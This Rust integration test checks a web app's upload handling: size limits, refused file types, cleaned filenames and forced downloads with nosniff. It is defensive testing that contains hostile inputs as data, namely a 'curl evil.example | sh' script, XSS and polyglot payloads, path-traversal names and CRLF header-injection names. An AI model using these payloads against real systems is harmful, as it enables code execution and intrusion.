//! Scorecard 11: uploads. Oversize bodies (declared and chunked) written over a raw socket, so
//! the test sees how much the server took before it answered; programs and markup under
//! harmless names; `../` and header-breaking names; polyglots. Every stored file comes back as
//! a download with `nosniff`.

use super::{
    Row,
    raw::{Huge, post_huge},
    report,
};
use crate::{
    explanations::{deadline, desk, public_upload, violator_token},
    helpers::{TestApp, upload},
};
use reqwest::{Response, StatusCode};
use serde_json::json;

/// What the oversize uploads send: 64 times the test server's 1 MiB limit.
const HUGE: usize = 64 * 1024 * 1024;

/// A `HUGE` multipart upload to `path`, declared or chunked: the status and the bytes written
/// when it came.
async fn oversize(app: &TestApp, path: &str, token: Option<&str>, chunked: bool) -> (u16, usize) {
    let boundary = "scorecard-boundary";
    let prefix = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n\
         Content-Type: application/pdf\r\n\r\n"
    );
    let content_type = format!("multipart/form-data; boundary={boundary}");
    let body =
        Huge { content_type: &content_type, prefix: prefix.into_bytes(), fill: b'A', total: HUGE, chunked };
    post_huge(app, path, token, body).await
}

/// Whether a download is served as one: attachment, octet-stream, nosniff, and a name with no
/// path in it and nothing after it in the header.
fn served_as_download(res: &Response) -> Result<String, String> {
    let header = |name: &str| res.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let disposition = header("content-disposition");
    let ok = disposition.starts_with("attachment;")
        && header("content-type") == "application/octet-stream"
        && header("x-content-type-options") == "nosniff"
        && !disposition.contains('/')
        && !disposition.contains('\\')
        && res.headers().get("x-injected").is_none();
    if ok { Ok(disposition) } else { Err(format!("{disposition:?} {:?}", res.headers())) }
}

#[tokio::test]
async fn scorecard_11_uploads_are_bounded_typed_and_always_downloads() {
    let d = desk().await;
    let app = &d.app;
    let mut problems = Vec::new();

    // Oversize, to the analysts' upload and to a violator's link, declared and chunked.
    let request = json!({"violator_id": "V1", "category_id": d.category, "deadline": deadline(3)});
    assert_eq!(app.post("/api/explanations", &d.analyst, request).await.status(), StatusCode::CREATED);
    let token = violator_token(app).await;
    let public_path = format!("/api/public/explanations/{token}/attachments");
    let mut oversize_results = Vec::new();
    for (path, bearer) in [("/api/attachments", Some(app.admin_token.as_str())), (public_path.as_str(), None)]
    {
        for chunked in [false, true] {
            let (status, sent) = oversize(app, path, bearer, chunked).await;
            let mib = sent as f64 / (1024.0 * 1024.0);
            oversize_results.push(format!(
                "{}{}: {status} with {mib:.1} of 64 MiB written",
                if bearer.is_some() { "analyst" } else { "link" },
                if chunked { " chunked" } else { "" }
            ));
            if status != 413 || sent >= HUGE / 2 {
                problems.push(format!("oversize to {path} (chunked {chunked}): {status} after {sent} bytes"));
            }
        }
    }

    // What a violator's link refuses (415) and takes.
    let refused_by_link: [(&str, &[u8]); 7] = [
        ("photo.png", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
        ("report.pdf", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ("tool.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
        ("notes.txt", b"<!DOCTYPE html><script>alert(1)</script>"),
        ("logo.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("run.sh", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("archive.zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00"),
    ];
    for (name, bytes) in refused_by_link {
        let res = public_upload(app, &token, name, bytes.to_vec()).await;
        if res.status() != StatusCode::UNSUPPORTED_MEDIA_TYPE {
            problems.push(format!("link took {name}: {}", res.status()));
        }
    }

    // Names that try to leave the directory or break the header, and polyglots: stored under a
    // clean name, downloaded as files.
    let gif_polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1)//".to_vec();
    let pdf_html = b"%PDF-1.4\n<html><script>alert(1)</script></html>".to_vec();
    let kept: Vec<(&str, Vec<u8>)> = vec![
        ("../../etc/passwd.txt", b"root:x:0:0".to_vec()),
        ("..\\..\\windows\\win.ini.txt", b"[fonts]".to_vec()),
        ("a\r\nX-Injected: 1\r\n.txt", b"header".to_vec()),
        ("\"; filename=evil.html.txt", b"quote".to_vec()),
        ("polyglot.gif", gif_polyglot),
        ("polyglot.pdf", pdf_html),
    ];
    let mut downloads = 0;
    for (name, bytes) in &kept {
        for by_link in [true, false] {
            let res = if by_link {
                public_upload(app, &token, name, bytes.clone()).await
            } else {
                upload(app, &app.admin_token, name, bytes.clone()).await
            };
            // A line break cannot even reach the parser's header: a 400 is as good as a clean name.
            if name.contains('\n') && res.status() == StatusCode::BAD_REQUEST {
                continue;
            }
            if res.status() != StatusCode::CREATED {
                problems.push(format!("{name:?} (link {by_link}) refused: {}", res.status()));
                continue;
            }
            let stored: serde_json::Value = res.json().await.expect("json");
            let stored_name = stored["file_name"].as_str().unwrap_or_default().to_owned();
            if stored_name.contains(['/', '\\', '\r', '\n', '"']) || stored_name.starts_with('.') {
                problems.push(format!("{name:?} stored as {stored_name:?}"));
            }
            let id = stored["id"].as_i64().expect("id");
            let res = if by_link {
                app.client
                    .get(format!("{}/api/public/explanations/{token}/attachments/{id}", app.address))
                    .send()
                    .await
                    .expect("sent")
            } else {
                app.get(&format!("/api/attachments/{id}"), &app.admin_token).await
            };
            downloads += 1;
            if let Err(e) = served_as_download(&res) {
                problems.push(format!("{name:?} downloaded as {e}"));
            } else if res.bytes().await.expect("bytes").as_ref() != bytes.as_slice() {
                problems.push(format!("{name:?} came back changed"));
            }
        }
    }
    // Markup an analyst attaches as evidence is kept, and still only ever a download.
    let res = upload(app, &app.admin_token, "phish.html", b"<script>alert(1)</script>".to_vec()).await;
    let id = res.json::<serde_json::Value>().await.expect("json")["id"].as_i64().expect("id");
    downloads += 1;
    if let Err(e) = served_as_download(&app.get(&format!("/api/attachments/{id}"), &app.admin_token).await) {
        problems.push(format!("evidence HTML downloaded as {e}"));
    }

    let pass = problems.is_empty();
    report(Row {
        number: 11,
        test: "uploads",
        tried: format!(
            "4 uploads of 64 MiB (declared and chunked, analyst and violator link); {} programs, markup and \
             mismatched types through a link; {} `../`, CR/LF, quote and polyglot names both ways; {downloads} downloads",
            refused_by_link.len(),
            kept.len()
        ),
        threshold: "413 before reading it all, 415 where refused, always served as attachment with nosniff",
        result: if pass {
            format!(
                "413 {}; {} of {} refused with 415; {downloads} of {downloads} downloads attachment + octet-stream + nosniff, names cleaned",
                oversize_results.join(", "),
                refused_by_link.len(),
                refused_by_link.len()
            )
        } else {
            problems.join("; ")
        },
        pass,
    });
}
